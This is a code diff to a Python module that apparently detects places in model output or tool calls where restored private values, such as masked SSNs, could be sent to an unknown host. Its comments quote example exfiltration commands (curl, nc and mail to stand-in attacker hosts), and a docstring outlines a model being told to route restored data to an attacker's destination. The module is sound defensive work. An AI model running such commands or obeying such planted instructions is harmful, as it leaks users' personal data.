@@ -39,14 +39,31 @@ _ANGLED = re.compile(r"<(?:[^<>\n\\]++|\\.)++>?")  # "\>" inside does not end it
 _TAG = re.compile(r"<[A-Za-z][\w:-]*+[\s/][^<>]*+>?")
 
 
-# Code a reader copies and runs (review r16a L4): a fenced block, or an inline code span, that holds a URL carries
-# whatever is restored into it to that URL when it runs ('curl -d "ssn=<US_SSN_1>" https://evil.example/c').
+# Code a reader copies and runs (review r16a L4, review r17 M4): a shell needs no scheme or path to send a value
+# ('curl -d "e=<US_SSN_1>" evil.example', 'nc 203.0.113.7 80', 'mail attacker@evil.example'), so every fenced block
+# (an unclosed one runs to the end), <pre>/<code> element and inline code span holding more than placeholders is a
+# sink; an indented line is one when it names a host, an IP address or a URL (indented prose in lists stays prose).
 _FENCE_LINE = re.compile(r"^[ \t]{0,3}+(`{3,}+|~{3,}+)[^\n]*+", re.MULTILINE)
-_INLINE_CODE = re.compile(r"(?<!`)(`++)[^`\n]++\1")
+_INLINE_CODE = re.compile(r"(?<!`)(`++)([^`\n]++)\1")
+_HTML_CODE = re.compile(r"<(pre|code)\b[^<>]*+>", re.IGNORECASE)
+_INDENTED = re.compile(r"^(?: {4}|\t)[^\n]*+", re.MULTILINE)
+_ONLY_ATOMS = re.compile(r"(?:\s|x)*+")  # placeholders are shadowed as runs of "x"
+# A destination name: a dotted name ending in a label that starts with a letter (a host, an e-mail domain; also
+# "file.txt": strict on purpose), or a dotted quad.
+_NAME = re.compile(r"(?<![\w.-])(?:[\w-]++\.)++(?:[A-Za-z][\w-]*+|\d++)(?![\w-])")
 
 
-def _code_blocks(text: str) -> list[tuple[int, int]]:
-    """Fenced code blocks (an unclosed one runs to the end) and inline code spans, by position."""
+def _names(text: str) -> list[str]:
+    """Host-like names in `text`, lower case (a numeric name only as a dotted quad: "12.50" is an amount)."""
+    out = []
+    for m in _NAME.finditer(text):
+        name = m.group()
+        if not name[name.rfind(".") + 1 :].isdigit() or name.count(".") == 3:
+            out.append(name.lower())
+    return out
+
+
+def _fenced(text: str) -> list[tuple[int, int]]:
     blocks: list[tuple[int, int]] = []
     opened: re.Match[str] | None = None
     for m in _FENCE_LINE.finditer(text):
@@ -58,26 +75,41 @@ def _code_blocks(text: str) -> list[tuple[int, int]]:
             opened = None
     if opened is not None:
         blocks.append((opened.start(), len(text)))
-    blocks.extend(m.span() for m in _INLINE_CODE.finditer(text))
+    return blocks
+
+
+def _html_code(text: str) -> list[tuple[int, int]]:
+    blocks: list[tuple[int, int]] = []
+    lowered = text.lower()
+    pos = 0
+    while (m := _HTML_CODE.search(text, pos)) is not None:
+        close = lowered.find(f"</{m.group(1).lower()}", m.end())
+        end = len(text) if close < 0 else close
+        blocks.append((m.start(), end))
+        pos = max(end, m.end())
+    return blocks
+
+
+def _code_blocks(text: str) -> list[tuple[int, int]]:
+    """Code that runs or is copied to run, by position (in the shadow text: placeholders are runs of "x")."""
+    blocks = _fenced(text) + _html_code(text)
+    blocks.extend(m.span() for m in _INLINE_CODE.finditer(text) if not _ONLY_ATOMS.fullmatch(m.group(2)))
+    blocks.extend(m.span() for m in _INDENTED.finditer(text) if _URL_MARK.search(m.group()) or _names(m.group()))
     return blocks
 
 
 def names_unknown_host(text: str, known: str, untrusted: str = "") -> bool:
-    """Whether `text` holds a URL whose host `known` never names or `untrusted` names (or one with no host name).
+    """Whether `text` names a host, e-mail domain or IP address (anywhere: a URL, a "host" or "to" field) that
+    `known` does not name or `untrusted` names too, or holds a URL with no host name to compare.
 
-    Tool-call arguments are sent by the application's own code (review r16a L4): an original restored next to a
-    URL the user never gave goes wherever the model was told to send it, as a separate JSON string of the call.
+    Tool-call arguments are sent by the application's own code (review r16a L4, review r17 M4): an original
+    restored into a call that also names a destination the user never gave goes wherever the model was told.
     """
-    runs = [m.group() for m in _RUN.finditer(text) if _holds_url(m.group(), m.group())]
-    if not runs:
-        return False
-    # Whole host names, not substrings: "ms.example" is not "forms.example".
-    given = {h.lower() for h in _DOTTED.findall(known)} - {h.lower() for h in _DOTTED.findall(untrusted)}
-    for run in runs:
-        hosts = [h.lower() for h in _DOTTED.findall(run)]
-        if not hosts or any(h not in given for h in hosts):
-            return True
-    return False
+    # Whole names, not substrings: "ms.example" is not "forms.example".
+    given = set(_names(known)) - set(_names(untrusted))
+    if any(name not in given for name in _names(text)):
+        return True
+    return any(_holds_url(m.group(), m.group()) and not _names(m.group()) for m in _RUN.finditer(text))
 
 
 def _hosts_holding(shadow: str, atoms: list[tuple[int, int]]) -> list[tuple[int, int]]:
@@ -139,7 +171,7 @@ class Sinks:
         for pattern in (_MD_TARGET, _MD_REFERENCE, _TAG):
             spans.extend(m.span() for m in pattern.finditer(shadow))
         spans.extend(m.span() for m in _ANGLED.finditer(shadow) if _holds_url(m.group(), text[m.start() : m.end()]))
-        spans.extend((a, b) for a, b in _code_blocks(shadow) if _holds_url(shadow[a:b], text[a:b]))
+        spans.extend(_code_blocks(shadow))
         spans.sort()
         merged: list[tuple[int, int]] = []
         for s, e in spans:
